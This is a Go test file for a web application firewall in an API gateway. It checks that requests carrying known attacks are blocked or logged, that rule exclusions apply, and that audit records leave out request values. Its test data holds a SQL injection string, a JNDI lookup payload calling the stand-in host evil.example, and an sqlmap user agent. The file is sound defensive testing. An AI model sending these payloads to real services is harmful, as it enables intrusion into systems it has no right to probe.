package gateway

import (
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/rampart-security/rampart/monitor/audit"
	"github.com/rampart-security/rampart/network/waf"
)

// injected is what a rule about SQL matches, and injectedPart is a part of it
// that no record may hold.
const injected, injectedPart = "1' or 1=1 -- sesame", "sesame"

const (
	toShop    = "validate: { max_body: 1KiB }"
	toStock   = "authn: gateway }"
	injection = `{"org":"acme","item":"` + injected + `","count":1}`
)

// order sends one to the shop, with an attack in its item.
func (h *house) order(ann string) int {
	h.t.Helper()
	return h.do("POST", "/orders", injection, "Authorization", ann, "Rampart-Nonce", freshNonce(), "Idempotency-Key", "k1").StatusCode
}

// TestWAF: what carries a known attack stops at the edge, wherever the service
// would read it. What stops there anyway is not looked at, and honest requests
// pass.
func TestWAF(t *testing.T) {
	h := open(t)
	ann := h.token("ann", "app")
	before := h.served()
	if status := h.order(ann); status != http.StatusForbidden || h.served() != before {
		t.Errorf("an attack in the body: %d, and the service was asked %d times", status, h.served()-before)
	}
	checkWAFEvent(t, h, audit.Refused)
	key := h.do("POST", "/orders", good, "Authorization", ann, "Rampart-Nonce", freshNonce(), "Idempotency-Key", "${jndi:ldap://evil.example/a}")
	if key.StatusCode != http.StatusForbidden || h.served() != before {
		t.Errorf("an attack in an idempotency key: %s, and the service was asked %d times", key.Status, h.served()-before)
	}
	for name, tt := range map[string]struct {
		path, header, value string
		status              int
	}{
		"the query of a service without a document": {"/stock/mugs?q=" + url.QueryEscape(injected), "Accept", "*/*", http.StatusForbidden},
		"a header that the service may read":        {"/stock/mugs", "X-Kept", "${jndi:ldap://evil.example/a}", http.StatusForbidden},
		"a header that stops at the edge":           {"/stock/mugs", "X-Dropped", "${jndi:ldap://evil.example/a}", http.StatusOK},
		"a user agent that is a scanner's":          {"/stock/mugs", "User-Agent", "sqlmap/1.8", http.StatusForbidden},
		"nothing of the kind":                       {"/stock/mugs?q=blue+mugs", "Accept", "application/json", http.StatusOK},
	} {
		t.Run(name, func(t *testing.T) {
			if res := h.do("GET", tt.path, "", "Authorization", ann, tt.header, tt.value); res.StatusCode != tt.status {
				t.Errorf("%s %s, want %d", res.Status, res.body, tt.status)
			}
		})
	}
}

// TestWAFReadsWhatIsJudged: no field that the schema went by is taken back before
// the rules and the service see it, by which the body would be of no type.
func TestWAFReadsWhatIsJudged(t *testing.T) {
	h := open(t)
	ann, before := h.token("ann", "app"), h.served()
	h.client = h.newClient()
	h.client.Transport.(*http.Transport).ForceAttemptHTTP2 = false // HTTP/2 has no such field
	for field, want := range map[string]int{"close": 403, "close, Content-Type": 400} {
		res := h.do("POST", "/orders", injection, "Authorization", ann, "Rampart-Nonce", freshNonce(), "Connection", field)
		if res.StatusCode != want || h.served() != before {
			t.Errorf("an attack with Connection: %s: %s %s, and the service was asked %d times", field, res.Status, res.body, h.served()-before)
		}
	}
}

// TestLongTextsTakeTurns: however many long texts there are, short ones do not wait
// for them, and one that gets no turn in time is refused, not let through.
func TestLongTextsTakeTurns(t *testing.T) {
	turns := newTurns()
	turns.wait = time.Millisecond
	var leave []func()
	for range cap(turns.places) {
		out, err := turns.enter(t.Context(), longText+1)
		must(t, err)
		leave = append(leave, out)
	}
	if _, err := turns.enter(t.Context(), longText); err != nil {
		t.Error("a short text waits for long ones:", err)
	}
	if _, err := turns.enter(t.Context(), longText+1); err == nil {
		t.Errorf("more than %d long texts are inspected at once", cap(turns.places))
	}
	leave[0]()
	if _, err := turns.enter(t.Context(), longText+1); err != nil {
		t.Error("nobody follows on one who leaves:", err)
	}
}

// TestWAFDetects: a flow that only detects lets pass and records; one that
// enforces goes on doing so. Without the rules the first passes, and the second
// is closed.
func TestWAFDetects(t *testing.T) {
	h := open(t, toShop, toShop+"\n    waf: { detect: true }", toStock, "authn: gateway, waf: { mode: full } }")
	ann := h.token("ann", "app")
	time.Sleep(time.Until(time.Unix(time.Now().Unix()+1, 0)))
	if status := h.order(ann); status != http.StatusOK {
		t.Errorf("a flow that detects: %d", status)
	}
	checkWAFEvent(t, h, audit.Allowed)
	attack := "/stock/mugs?q=" + url.QueryEscape(injected)
	if res := h.do("GET", attack, "", "Authorization", ann); res.StatusCode != http.StatusForbidden {
		t.Errorf("a flow in full mode: %s", res.Status)
	}
	for _, s := range h.gw.table.Load().stages {
		if f, ok := s.(firewall); ok {
			f.by["shop"].engine, f.by["stock"].engine = nil, nil
		}
	}
	if res := h.do("GET", "/orders/o1", "", "Authorization", ann); res.StatusCode != http.StatusOK {
		t.Errorf("a flow that detects, without rules: %s", res.Status)
	}
	if res := h.do("GET", "/stock/mugs", "", "Authorization", ann); res.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("a flow that enforces, without rules: %s", res.Status)
	}
	if e := h.newest(); e.Control != controlWAF || e.Outcome != audit.Failed {
		t.Errorf("on record: %+v", e)
	}
}

// TestWAFIsLifted: by an exclusion for one field, and by the file for a flow.
func TestWAFIsLifted(t *testing.T) {
	h := open(t,
		toShop, toShop+"\n    waf: { exclude: [{ route: POST /orders, field: body:/item, rules: [942100], reason: part numbers, until: 2099-01-01 }] }",
		toStock, `authn: gateway, waf: { mode: "off" } }`)
	ann := h.token("ann", "app")
	time.Sleep(time.Until(time.Unix(time.Now().Unix()+1, 0))) // a nonce stamped before the start is refused
	if status := h.order(ann); status != http.StatusOK {
		t.Errorf("an excluded field: %d", status)
	}
	other := strings.Replace(injection, `"item":"`, `"item":"x","note":"`, 1)
	if res := h.do("POST", "/orders", other, "Authorization", ann, "Rampart-Nonce", freshNonce()); res.StatusCode != http.StatusForbidden {
		t.Errorf("another field: %s %s", res.Status, res.body)
	}
	if res := h.do("GET", "/stock/mugs?q="+url.QueryEscape(injected), "", "Authorization", ann); res.StatusCode != http.StatusOK {
		t.Errorf("a flow without: %s", res.Status)
	}
}

func checkWAFEvent(t *testing.T, h *house, want audit.Outcome) {
	t.Helper()
	var got audit.Event
	for _, e := range h.Events("gateway_edge") {
		for _, v := range e.Detail {
			if strings.Contains(v, injectedPart) {
				t.Errorf("the record holds a value of the request: %+v", e)
			}
		}
		if e.Class == audit.ClassWAF {
			got = e
		}
	}
	if got.Outcome != want || got.Control != controlWAF || !strings.Contains("; "+got.Detail["rules"]+";", "; 942100 in body:/item;") ||
		strings.Count(got.Detail["rules"], "942100 in body:/item") != 1 || !strings.HasSuffix(got.Detail["score"], " of 5") {
		t.Errorf("on record: %+v, want outcome %s", got, want)
	}
}

// TestGuidedWithoutDocument: the guide reads what came and rests on no schema, so it
// goes before the rules of a service without a document, too.
func TestGuidedWithoutDocument(t *testing.T) {
	h := open(t)
	i := h.gw.firewall(h.gw.table.Load()).by["stock"]
	if i == nil || i.guide == nil {
		t.Fatal("the service has no guide")
	}
	i.guide.make()
	for query, clean := range map[string]bool{"blue+mugs": true, url.QueryEscape(injected): false} {
		r := &waf.Request{Client: netip.MustParseAddr("192.0.2.1"), Method: "GET", Target: "/mugs?q=" + query, Host: "stock", Header: http.Header{"Accept": {"application/json"}, "User-Agent": {"curl/8.0"}}}
		if got := i.guide.clean(r); got != clean {
			t.Errorf("%s: spared the rules: %v, want %v", query, got, clean)
		}
	}
}
